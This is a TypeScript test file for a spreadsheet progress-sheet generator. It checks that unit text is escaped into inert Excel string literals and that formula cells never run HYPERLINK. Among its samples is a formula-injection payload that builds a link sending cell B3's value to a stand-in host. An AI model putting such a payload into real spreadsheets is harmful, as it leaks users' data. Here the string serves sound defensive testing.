// Text in formulas: formulaText turns any text into an inert Excel string, checked by evaluating it in HyperFormula,
// and a progress sheet whose pack units carry quotes and a HYPERLINK still computes its derived columns.
import { HyperFormula } from "hyperformula";
import { cellSafeText, formulaText } from "../../src/core/sheet/formula-text";
import { COL, planTargets, SHEET, typedFormatMessage } from "../../src/core/sheet/layout";
import { MemoryWorkbook } from "../../src/workbook/memory-workbook";
import { colIndex, type CellValue } from "../../src/workbook/workbook";
import { catalogWith, expectedRow } from "./helpers";
import { serviceOver } from "./service-over";

const ATTACK = '家"&HYPERLINK("http://x?d="&B3,"点此修正")&"';
const OPEN_QUOTE = '"家';

/** Every character class a pack may bring. */
const SAMPLES: [string, string][] = [
  ["plain CJK", "高新技术企业"],
  ["the HYPERLINK attack", ATTACK],
  ["an opening quote", OPEN_QUOTE],
  ["quotes only", '""""'],
  ["empty", ""],
  ["operators and a leading =", "=1+1&A1,;:'!$%^*()[]{}<>"],
  ["a surrogate pair", "𠮷野家😀"],
  ["C0 controls and DEL", "a\u0000b\u0007c\u001bd\u007fe"],
  ["line breaks and tabs", "第一行\r\n第二行\t完"],
  ["C1 controls", "x\u0085y\u009bz"],
  ["noncharacters", "a\uFFFEb\uFFFFc"],
  ["lone surrogates", "a\uD842b\uDFB7c\uD842"],
  ["bidi and zero-width", "\u202Eabc\u200B\uFEFF"],
  ["full-width quote marks", "“家”"],
  ["longer than a formula literal", `${"家".repeat(300)}"${"𠮷".repeat(200)}`],
];

function evaluate(formula: string): CellValue {
  const hf = HyperFormula.buildFromArray([[formula]], { licenseKey: "gpl-v3" });
  try {
    return hf.getCellValue({ sheet: 0, row: 0, col: 0 }) as CellValue;
  } finally {
    hf.destroy();
  }
}

/** The formula with its string literals removed: what Excel would run. */
const code = (f: string) => f.replace(/"(?:[^"]|"")*"/g, "");

describe("formulaText", () => {
  test.each(SAMPLES)("%s evaluates to the same text, without what a cell cannot keep", (_name, s) => {
    const literal = formulaText(s);
    expect(code(literal).replace(/&|CHAR\(34\)/g, "")).toBe("");
    expect(evaluate(`=${literal}`)).toBe(cellSafeText(s));
  });

  test("removes controls, noncharacters and lone surrogates, keeps pairs, turns breaks into spaces", () => {
    expect(cellSafeText("a\u0000b\u001b\u007f\u0085c")).toBe("ab c");
    expect(cellSafeText("a\uFFFE\uFFFFb")).toBe("ab");
    expect(cellSafeText("\uD842a\uDFB7𠮷")).toBe("a𠮷");
    expect(cellSafeText("一\r\n二\t三")).toBe("一 二 三");
  });

  test("no literal is longer than Excel's 255 characters, and no surrogate pair is cut", () => {
    const literal = formulaText("𠮷".repeat(400));
    const parts = literal.split("&").map((p) => p.slice(1, -1));
    expect(literal).not.toMatch(/CHAR/);
    expect(parts.length).toBeGreaterThan(1);
    for (const p of parts) {
      expect(p.length).toBeLessThanOrEqual(255);
      expect(p).toBe(cellSafeText(p));
    }
  });
});

describe("a progress sheet whose units carry quotes", () => {
  const catalog = catalogWith(
    { kind: "unit", target: "yy14.hightech_enterprises", unit: ATTACK },
    { kind: "unit", target: "yy14.invention_patents_per_10k", unit: OPEN_QUOTE },
  );
  const ids = ["yy14.hightech_enterprises", "yy14.invention_patents_per_10k"];

  test("no formula runs HYPERLINK, 输入检查 and the pane's message keep the unit as text, and the derived columns compute", async () => {
    const wb = new MemoryWorkbook();
    const service = serviceOver(wb, { year: 2024, catalog: catalog });
    const { sheetName } = await service.generate("yiyang-14th", 2023);
    const targets = planTargets(catalog, "yiyang-14th");
    const formulas = wb.contentOf(sheetName).formulas.flat();
    for (const f of formulas) if (typeof f === "string") expect(code(f)).not.toMatch(/HYPERLINK/i);

    for (const id of ids) {
      const i = targets.findIndex((t) => t.id === id);
      const t = targets[i];
      const r = SHEET.firstDataRow + i;
      const at = (k: keyof typeof COL) => wb.value(sheetName, `${COL[k]}${r}`);
      wb.setCell(sheetName, `${COL.actual}${r}`, "470家");
      expect(at("check")).toBe("实际值应为数字,不带单位、千位分隔符或文字。");
      // A percent typed into the cell is named by the pane (the sheet cannot see a format): the unit is text there.
      expect(typedFormatMessage(t, "实际值", "percent")).toBe(
        `实际值带百分号:本行单位为${t.unit},请清除该单元格格式后填数字。`,
      );
      wb.setCell(sheetName, `${COL.actual}${r}`, t.threshold * 0.8);
      expect(at("check") ?? "").toBe("");
      const want = expectedRow(t, t.threshold * 0.8, null, 2023);
      expect(at("status")).toBe(want.status);
      expect(at("outlook")).toBe(want.outlook);
      expect(at("expected")).toBeCloseTo(want.expected!, 9);
      expect(at("completion")).toBeCloseTo(want.completion!, 9);
      expect(at("variance")).toBeCloseTo(want.variance!, 9);
      expect(at("elapsed")).toBeCloseTo(want.elapsed!, 9);
    }
    expect(colIndex(COL.check)).toBeGreaterThan(0);
  });
});
